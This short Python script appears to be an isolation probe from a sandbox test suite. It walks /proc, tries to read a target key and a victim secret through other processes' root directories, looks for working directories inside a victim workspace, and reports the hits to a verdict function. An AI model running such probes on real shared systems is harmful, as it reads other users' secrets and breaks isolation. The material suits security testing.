"""Goes around its own file system by the roots, folders and files of others in /proc."""
import os

from attack import TARGETS, can_read, processes, verdict

found = []
for pid in processes():
    for path in [f'/proc/{pid}/root{TARGETS["key"]}', f'/proc/{pid}/root{TARGETS["victim_secret"]}']:
        try:
            found += [path] if can_read(path) else []
        except OSError:
            pass
    try:
        cwd = os.readlink(f'/proc/{pid}/cwd')
        found += [cwd] if cwd.startswith(TARGETS['victim_workspace'] + '/') else []
    except OSError:
        pass
verdict(found, len(found))
